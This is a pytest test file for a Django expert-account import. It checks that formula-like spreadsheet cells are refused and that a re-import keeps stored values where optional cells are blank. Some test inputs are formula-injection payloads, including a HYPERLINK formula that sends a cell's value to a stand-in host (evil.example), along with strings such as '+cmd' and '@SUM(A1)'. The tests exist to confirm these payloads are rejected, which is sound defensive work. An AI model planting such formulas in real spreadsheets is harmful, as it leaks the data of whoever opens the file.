"""The expert-pool import, cell by cell: formulas and formula-like text refused where they are;
a re-import updates by username or phone, and a blank optional cell keeps the stored value."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from accounts import roles
from accounts.models import User

HEADER = ["用户名", "姓名", "联系电话", "工作单位", "单位所在区县", "专长/学科", "角色", "查看范围", "启用"]


def _xlsx(rows) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _snapshot():
    return sorted(
        (u.username, u.name, u.phone, u.organization, u.expertise, u.district_id, u.is_active, u.scope_city_wide,
         tuple(sorted(u.groups.values_list("name", flat=True))), tuple(sorted(u.scope_districts.values_list("pk", flat=True))))
        for u in User.objects.all()
    )


@pytest.fixture
def upload(login, world):
    client = login(world.security_admin)

    def _upload(content: bytes, name="experts.xlsx"):
        return client.post(reverse("accounts:user_import"), {"file": SimpleUploadedFile(name, content)})

    return _upload


# --- formulas ------------------------------------------------------------------------------


@pytest.mark.parametrize("column,letter", [("工作单位", "D"), ("专长/学科", "F")])
def test_a_formula_in_an_optional_xlsx_column_is_refused_by_cell(world, upload, column, letter):
    row = ["newexpert", "新专家", "", "", "", "", "", "", ""]
    row[HEADER.index(column)] = '=HYPERLINK("http://evil.example/?q="&A2,"西安市第一中学")'
    before = _snapshot()
    response = upload(_xlsx([HEADER, row]))
    assert response.status_code == 400
    body = response.content.decode()
    assert f"第 2 行「{column}」：单元格 {letter}2 是公式" in body
    assert _snapshot() == before
    assert not User.objects.filter(username="newexpert").exists()


def test_a_formula_name_is_called_a_formula_not_a_missing_name(world, upload):
    before = _snapshot()
    body = upload(_xlsx([HEADER, ["newexpert", "=A1", "", "", "", "", "", "", ""]])).content.decode()
    assert "第 2 行「姓名」：单元格 B2 是公式" in body and "请填写姓名" not in body
    assert _snapshot() == before


def test_the_reader_sees_formulas_that_data_only_would_read_as_empty():
    from accounts.importing import FormulaCell, read_rows

    [(number, values)] = read_rows(name="a.xlsx", data=_xlsx([HEADER, ["x", "某", "", "=1+1", "", "", "", "", ""]]))
    assert number == 2 and isinstance(values["工作单位"], FormulaCell) and values["工作单位"].formula == "=1+1"


@pytest.mark.parametrize("value", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "＝HYPERLINK(\"x\")", "＋1", "－1", "＠x",
                                   " =1+1"])
@pytest.mark.parametrize("column,letter", [("工作单位", "D"), ("专长/学科", "F")])
def test_csv_text_that_starts_like_a_formula_is_refused_by_row_and_column(world, upload, value, column, letter):
    cells = {"用户名": "newexpert", "姓名": "新专家", column: value}
    text = ",".join(HEADER) + "\n" + ",".join('"' + cells.get(h, "").replace('"', '""') + '"' for h in HEADER) + "\n"
    before = _snapshot()
    response = upload(text.encode("utf-8"), name="experts.csv")
    assert response.status_code == 400
    assert f"第 2 行「{column}」：单元格 {letter}2 以 = + - @ 开头" in response.content.decode()
    assert _snapshot() == before


def test_a_username_starting_like_a_formula_is_refused_and_a_phone_may_start_with_plus(world, upload):
    before = _snapshot()
    body = upload("用户名,姓名\n@evil,坏人\n-evil,坏人二\n".encode(), name="a.csv").content.decode()
    assert "第 2 行「用户名」：单元格 A2 以 = + - @ 开头" in body and "第 3 行「用户名」" in body
    assert _snapshot() == before
    assert upload("用户名,姓名,联系电话\nintl,国际,+86 13900000077\n".encode(), name="a.csv").status_code == 200
    assert User.objects.get(username="intl").phone == "+86 13900000077"


# --- re-import -----------------------------------------------------------------------------


def test_a_reimport_updates_by_username(world, upload):
    count = User.objects.count()
    response = upload(_xlsx([HEADER, ["bob", "赵专家", "13900000123", "碑林区第五小学", "碑林区", "数学", "", "", ""]]))
    assert response.status_code == 302  # nothing created, so no one-time passwords to show
    assert User.objects.count() == count
    bob = User.objects.get(pk=world.bob.pk)
    assert (bob.username, bob.phone, bob.organization, bob.district, bob.expertise) == (
        "bob", "13900000123", "碑林区第五小学", world.other_district, "数学")


def test_blank_optional_cells_keep_the_stored_values_on_update(world, upload):
    official = world.other_official
    official.phone, official.organization, official.expertise = "029-8888000", "碑林区教育局", "德育"
    official.save()
    official.scope_districts.add(world.district)  # 碑林区 + 雁塔区
    official.is_active = False
    official.save(update_fields=["is_active"])
    before = _snapshot()
    response = upload(_xlsx([HEADER, ["other_official", "碑林教育局", "", "", "", "", "", "", ""]]))
    assert response.status_code == 302
    assert _snapshot() == before  # nothing wiped: scope, district, unit, tags, phone, role, activation
    fresh = User.objects.get(pk=official.pk)
    assert roles.held_roles(fresh) == {roles.OFFICIAL}
    assert set(fresh.scope_districts.all()) == {world.district, world.other_district}
    assert fresh.district == world.other_district and not fresh.is_active


def test_filled_cells_still_change_an_account(world, upload):
    response = upload(_xlsx([HEADER, ["official", "雁塔教育局", "", "", "", "", "", "全市", "否"]]))
    assert response.status_code == 302
    fresh = User.objects.get(pk=world.official.pk)
    assert fresh.scope_city_wide and not fresh.scope_districts.exists() and not fresh.is_active
    assert roles.held_roles(fresh) == {roles.OFFICIAL}  # blank 角色: kept, so the scope is allowed


def test_a_scope_for_a_non_official_is_still_refused(world, upload):
    before = _snapshot()
    body = upload(_xlsx([HEADER, ["bob", "赵专家", "", "", "", "", "", "全市", ""]])).content.decode()
    assert "第 2 行「查看范围」：只有教育局账号有查看范围" in body
    assert _snapshot() == before


def test_the_template_explains_blank_cells_and_formulas(login, world):
    response = login(world.security_admin).get(reverse("accounts:user_import_template"))
    notes = " ".join(str(r[0].value) for r in load_workbook(io.BytesIO(response.content)).worksheets[1].iter_rows())
    assert "空白的单元格保留原有内容" in notes and "公式" in notes
